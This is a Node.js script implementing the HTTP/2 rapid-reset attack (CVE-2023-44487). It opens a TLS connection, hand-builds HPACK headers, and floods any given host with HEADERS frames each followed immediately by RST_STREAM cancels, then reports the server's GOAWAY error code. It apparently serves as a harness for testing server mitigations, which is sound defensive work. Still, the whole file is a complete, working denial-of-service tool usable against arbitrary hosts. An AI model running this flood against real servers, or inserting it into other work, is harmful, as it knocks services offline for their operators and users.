// A rapid-reset attacker (CVE-2023-44487) in its own process, as a real one would be. It writes raw HTTP/2 frames
// over TLS: each stream a HEADERS frame immediately followed by a RST_STREAM (CANCEL), many to a write, as the
// published attacks do (a client library would queue streams beyond SETTINGS_MAX_CONCURRENT_STREAMS and never send
// a cancelled one). It prints one JSON line: the GOAWAY error code it received (null if none) and the streams it sent.
import { connect } from 'node:tls';

const [host, port, ca, servername, count] = process.argv.slice(2);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type, flags, streamId, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

// HPACK (RFC 7541): :method GET (static 2), :scheme https (7), then :path /rr/ (name index 4) and :authority (name
// index 1) as literals without indexing.
const authority = Buffer.from(servername);
const path = Buffer.from('/rr/');
const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x04, path.length]), path, Buffer.from([0x01, authority.length]), authority]);
const cancel = Buffer.alloc(4);
cancel.writeUInt32BE(0x8, 0);

const socket = connect({ host, port: Number(port), ca, servername, ALPNProtocols: ['h2'] });
let goaway = null;
let sent = 0;
let received = Buffer.alloc(0);
const finish = () => {
  console.log(JSON.stringify({ goaway, opened: sent }));
  process.exit(0);
};
socket.on('error', () => {});
socket.on('close', finish);
socket.on('data', (chunk) => {
  received = Buffer.concat([received, chunk]);
  while (received.length >= 9) {
    const length = received.readUIntBE(0, 3);
    if (received.length < 9 + length) break;
    // GOAWAY: last stream id, then the error code.
    if (received[3] === 0x7 && goaway === null) goaway = received.readUInt32BE(13);
    received = received.subarray(9 + length);
  }
});
socket.on('secureConnect', () => void attack());

async function attack() {
  socket.write(Buffer.concat([PREFACE, frame(0x4, 0, 0, Buffer.alloc(0)), frame(0x4, 0x1, 0, Buffer.alloc(0))]));
  for (let id = 1; sent < Number(count) && goaway === null && !socket.destroyed; id += 2) {
    socket.write(Buffer.concat([frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel)]));
    sent++;
    if (sent % 20 === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  setTimeout(finish, 3000);
}
